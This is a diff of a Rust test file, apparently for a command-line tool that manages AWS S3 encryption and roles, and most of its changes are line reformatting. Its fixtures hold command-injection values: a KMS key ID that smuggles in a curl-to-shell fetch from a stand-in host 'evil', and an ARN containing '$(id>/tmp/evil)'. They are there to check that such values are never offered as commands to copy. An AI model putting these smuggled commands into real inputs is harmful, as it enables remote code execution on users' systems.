@@ -10,20 +10,20 @@ use crate::support::{Cloud, Outcome, Scripted, TOKEN, shell};
 /// The ID of a key that is a command, as somebody writes it into a bucket's default encryption.
 const EVIL_KEY: &str = "x;curl${IFS}evil|sh;#";
 /// An ARN that is one, in its partition.
-const EVIL_ARN: &str =
-    "arn:aws$(id>/tmp/evil):kms:eu-west-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab";
+const EVIL_ARN: &str = "arn:aws$(id>/tmp/evil):kms:eu-west-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab";
 
 fn encrypted_with(key: &str) -> Scripted {
     let body = format!(
-        "<ServerSideEncryptionConfiguration><Rule><ApplyServerSideEncryptionByDefault><SSEAlgorithm>aws:kms</SSEAlgorithm><KMSMasterKeyID>{}</KMSMasterKeyID></ApplyServerSideEncryptionByDefault></Rule></ServerSideEncryptionConfiguration>",
-        key.replace('&', "&amp;")
-            .replace('<', "&lt;")
-            .replace('>', "&gt;")
+        "<ServerSideEncryptionConfiguration><Rule><ApplyServerSideEncryptionByDefault><SSEAlgorithm>aws:kms</\
+         SSEAlgorithm><KMSMasterKeyID>{}</KMSMasterKeyID></ApplyServerSideEncryptionByDefault></Rule></\
+         ServerSideEncryptionConfiguration>",
+        key.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;")
     );
     Scripted::answer("s3", body)
 }
 
-/// Everything that a run offers to be copied: what stands between backquotes, after a label, or on a line that begins with a program.
+/// Everything that a run offers to be copied: what stands between backquotes, after a label, or on a line that begins
+/// with a program.
 #[track_caller]
 fn offered(outcome: &Outcome) -> Vec<String> {
     let mut offered = Vec::new();
@@ -32,9 +32,7 @@ fn offered(outcome: &Outcome) -> Vec<String> {
         .lines()
     {
         let parts = line.split('`').skip(1).step_by(2);
-        let labelled = line
-            .match_indices(": ")
-            .map(|(at, label)| &line[at + label.len()..]);
+        let labelled = line.match_indices(": ").map(|(at, label)| &line[at + label.len()..]);
         let candidates = parts.chain(labelled).chain([line.trim()]);
         offered.extend(
             candidates
@@ -67,9 +65,7 @@ fn plain_words(outcome: &Outcome) -> Vec<String> {
 #[track_caller]
 fn json_commands(verdict: &Value) -> Vec<Vec<String>> {
     let checks = verdict["checks"].as_array().expect("checks");
-    let fixes = checks
-        .iter()
-        .flat_map(|check| check["fix"].as_array().expect("fixes"));
+    let fixes = checks.iter().flat_map(|check| check["fix"].as_array().expect("fixes"));
     fixes
         .filter_map(|fix| fix["command"].as_str())
         .filter(|command| *command != NOT_SHOWN)
@@ -213,9 +209,7 @@ fn run_with_profile(cloud: &Cloud, arguments: &[&str]) -> Outcome {
         "[acme-prod]\naws_access_key_id = {}\naws_secret_access_key = {}\n{}",
         cloud.keys.id,
         cloud.keys.secret,
-        token.map_or(String::new(), |token| format!(
-            "aws_session_token = {token}\n"
-        ))
+        token.map_or(String::new(), |token| format!("aws_session_token = {token}\n"))
     );
     std::fs::write(home.path().join("credentials"), credentials).expect("written");
     let mut command = bare(&home);
@@ -253,10 +247,7 @@ fn what_is_offered_is_for_the_profile_of_this_run() {
     cloud.role_by_hand("open", &trust(USER, None), &[data(&bucket)]);
     let verdict = run_with_profile(&cloud, &["verify", "--role", "open"]).exits(4);
     assert!(for_the_profile(&verdict) >= 2, "{verdict:?}");
-    let missing = run_with_profile(
-        &cloud,
-        &["verify", "--role", "open", "--bucket", "acme-gone"],
-    );
+    let missing = run_with_profile(&cloud, &["verify", "--role", "open", "--bucket", "acme-gone"]);
     assert!(for_the_profile(&missing) > 0, "{missing:?}");
     let teardown = ["teardown", "--role", &bucket, "--yes"];
     let removed = run_with_profile(&cloud, &teardown).exits(0);
@@ -277,14 +268,7 @@ fn what_a_rehearsal_offers_of_this_program_is_for_the_rehearsal() {
     let mut ours = 0;
     for arguments in [
         &["print-details"][..],
-        &[
-            "setup",
-            "--yes",
-            "--bucket",
-            "acme-rehearsal",
-            "--region",
-            "eu-west-1",
-        ],
+        &["setup", "--yes", "--bucket", "acme-rehearsal", "--region", "eu-west-1"],
         &["verify", "--bucket", "acme-gone"],
         &["teardown", "--yes"],
         &["verify"],
